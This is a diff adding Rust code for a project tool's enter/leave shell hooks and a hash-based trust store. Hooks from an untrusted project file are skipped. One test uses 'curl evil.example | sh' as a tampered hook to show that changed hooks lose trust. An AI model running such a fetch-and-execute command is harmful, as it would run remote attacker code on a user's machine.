@@ -0,0 +1,228 @@
+use crate::config::Config;
+use crate::project_file::ProjectFile;
+use crate::state::{state_dir, write_atomic};
+use anyhow::{Context, Result};
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+use std::fs;
+use std::path::{Path, PathBuf};
+
+/// Shell commands for the shell wrapper to evaluate when jumping into or out
+/// of a project
+#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq, Eq)]
+pub struct Hooks {
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub on_enter: Option<String>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub on_leave: Option<String>,
+}
+
+impl Hooks {
+    fn get(&self, event: HookEvent) -> Option<&str> {
+        match event {
+            HookEvent::Enter => self.on_enter.as_deref(),
+            HookEvent::Leave => self.on_leave.as_deref(),
+        }
+    }
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum HookEvent {
+    Enter,
+    Leave,
+}
+
+/// SHA-256 of a project file's `[hooks]` table, serialized back to TOML, as
+/// lowercase hex. Only the hook commands count, so editing tags, comments or
+/// formatting leaves the file trusted.
+pub fn hash_hooks(hooks: &Hooks) -> String {
+    let serialized = toml::to_string(hooks).unwrap_or_default();
+    Sha256::digest(serialized.as_bytes())
+        .iter()
+        .map(|b| format!("{:02x}", b))
+        .collect()
+}
+
+/// Hook files the user has approved, keyed by path and hash of their hooks.
+/// Changing a trusted file's hooks invalidates its trust until `pj trust` is
+/// run again.
+#[derive(Debug, Default)]
+pub struct TrustStore {
+    path: PathBuf,
+    entries: Vec<(String, PathBuf)>,
+}
+
+impl TrustStore {
+    /// Open the trust store in the pj state directory
+    pub fn open() -> Result<Self> {
+        Self::load(state_dir()?.join("trusted"))
+    }
+
+    /// Load a trust store from `path`; a missing file is an empty store
+    pub fn load(path: PathBuf) -> Result<Self> {
+        let contents = match fs::read_to_string(&path) {
+            Ok(contents) => contents,
+            Err(err) if err.kind() == std::io::ErrorKind::NotFound => String::new(),
+            Err(err) => return Err(err).context("Failed to read trust store"),
+        };
+
+        let entries = contents
+            .lines()
+            .filter_map(|line| line.split_once("  "))
+            .map(|(hash, file)| (hash.to_string(), PathBuf::from(file)))
+            .collect();
+
+        Ok(Self { path, entries })
+    }
+
+    pub fn is_trusted(&self, file: &Path, hooks: &Hooks) -> bool {
+        let hash = hash_hooks(hooks);
+        self.entries.iter().any(|(h, f)| *h == hash && f == file)
+    }
+
+    /// Trust the current `hooks` of `file`, replacing any earlier approval
+    pub fn trust(&mut self, file: &Path, hooks: &Hooks) {
+        self.revoke(file);
+        self.entries.push((hash_hooks(hooks), file.to_path_buf()));
+    }
+
+    /// Remove any approval for `file`. Returns whether it was trusted.
+    pub fn revoke(&mut self, file: &Path) -> bool {
+        let before = self.entries.len();
+        self.entries.retain(|(_, f)| f != file);
+        self.entries.len() != before
+    }
+
+    pub fn save(&self) -> Result<()> {
+        let contents: String = self
+            .entries
+            .iter()
+            .map(|(hash, file)| format!("{}  {}\n", hash, file.display()))
+            .collect();
+        write_atomic(&self.path, &contents).context("Failed to write trust store")
+    }
+}
+
+/// Hook commands that apply to a project
+#[derive(Debug, Default)]
+pub struct ResolvedHooks {
+    /// Commands to evaluate, in order
+    pub commands: Vec<String>,
+    /// A `.pj.toml` whose hooks were skipped because it is not trusted
+    pub untrusted: Option<PathBuf>,
+}
+
+/// Collect the `event` hooks for `project`: first from `[hooks]` entries in
+/// the config whose glob matches the project path, then from the project's
+/// own `.pj.toml` if it is trusted.
+pub fn resolve(
+    config: &Config,
+    store: &TrustStore,
+    project: &Path,
+    event: HookEvent,
+) -> Result<ResolvedHooks> {
+    let mut resolved = ResolvedHooks::default();
+
+    for (pattern, hooks) in &config.hooks {
+        let expanded = shellexpand::tilde(pattern).to_string();
+        let glob = glob::Pattern::new(&expanded)
+            .with_context(|| format!("Invalid hooks pattern: {}", pattern))?;
+
+        if glob.matches_path(project)
+            && let Some(command) = hooks.get(event)
+        {
+            resolved.commands.push(command.to_string());
+        }
+    }
+
+    if let Some((file, project_file)) = ProjectFile::load(project)?
+        && let Some(command) = project_file.hooks.get(event)
+    {
+        if store.is_trusted(&file, &project_file.hooks) {
+            resolved.commands.push(command.to_string());
+        } else {
+            resolved.untrusted = Some(file);
+        }
+    }
+
+    Ok(resolved)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::project_file::PROJECT_FILE;
+    use tempfile::TempDir;
+
+    #[test]
+    fn test_trust_store_round_trip_and_invalidation() {
+        let temp_dir = TempDir::new().unwrap();
+        let file = PathBuf::from("/p/app/.pj.toml");
+
+        let hooks = Hooks {
+            on_enter: Some("make env".to_string()),
+            on_leave: None,
+        };
+        let changed = Hooks {
+            on_leave: Some("curl evil.example | sh".to_string()),
+            ..hooks.clone()
+        };
+
+        let mut store = TrustStore::load(temp_dir.path().join("trusted")).unwrap();
+        store.trust(&file, &hooks);
+        store.save().unwrap();
+
+        let store = TrustStore::load(temp_dir.path().join("trusted")).unwrap();
+        assert!(store.is_trusted(&file, &hooks));
+        assert!(!store.is_trusted(&file, &changed));
+        assert!(!store.is_trusted(Path::new("/p/other/.pj.toml"), &hooks));
+    }
+
+    #[test]
+    fn test_resolve_config_and_project_hooks() {
+        let temp_dir = TempDir::new().unwrap();
+        let project = temp_dir.path().join("work/api");
+        fs::create_dir_all(&project).unwrap();
+        let contents = "[hooks]\non_enter = \"source .venv/bin/activate\"\n";
+        fs::write(project.join(PROJECT_FILE), contents).unwrap();
+
+        let mut config = Config::default();
+        config.hooks.insert(
+            format!("{}/work/*", temp_dir.path().display()),
+            Hooks {
+                on_enter: Some("export AWS_PROFILE=work".to_string()),
+                on_leave: Some("unset AWS_PROFILE".to_string()),
+            },
+        );
+
+        // Untrusted: only the config hook runs
+        let mut store = TrustStore::load(temp_dir.path().join("trusted")).unwrap();
+        let resolved = resolve(&config, &store, &project, HookEvent::Enter).unwrap();
+        assert_eq!(resolved.commands, vec!["export AWS_PROFILE=work"]);
+        assert_eq!(resolved.untrusted, Some(project.join(PROJECT_FILE)));
+
+        let hooks = ProjectFile::read(&project.join(PROJECT_FILE))
+            .unwrap()
+            .hooks;
+        store.trust(&project.join(PROJECT_FILE), &hooks);
+        let resolved = resolve(&config, &store, &project, HookEvent::Enter).unwrap();
+        assert_eq!(
+            resolved.commands,
+            vec!["export AWS_PROFILE=work", "source .venv/bin/activate"]
+        );
+        assert_eq!(resolved.untrusted, None);
+
+        // Editing tags or comments keeps the hooks trusted
+        fs::write(
+            project.join(PROJECT_FILE),
+            format!("# api service\ntags = [\"work\"]\n\n{}", contents),
+        )
+        .unwrap();
+        let resolved = resolve(&config, &store, &project, HookEvent::Enter).unwrap();
+        assert_eq!(resolved.untrusted, None);
+        assert_eq!(resolved.commands.len(), 2);
+
+        let resolved = resolve(&config, &store, &project, HookEvent::Leave).unwrap();
+        assert_eq!(resolved.commands, vec!["unset AWS_PROFILE"]);
+    }
+}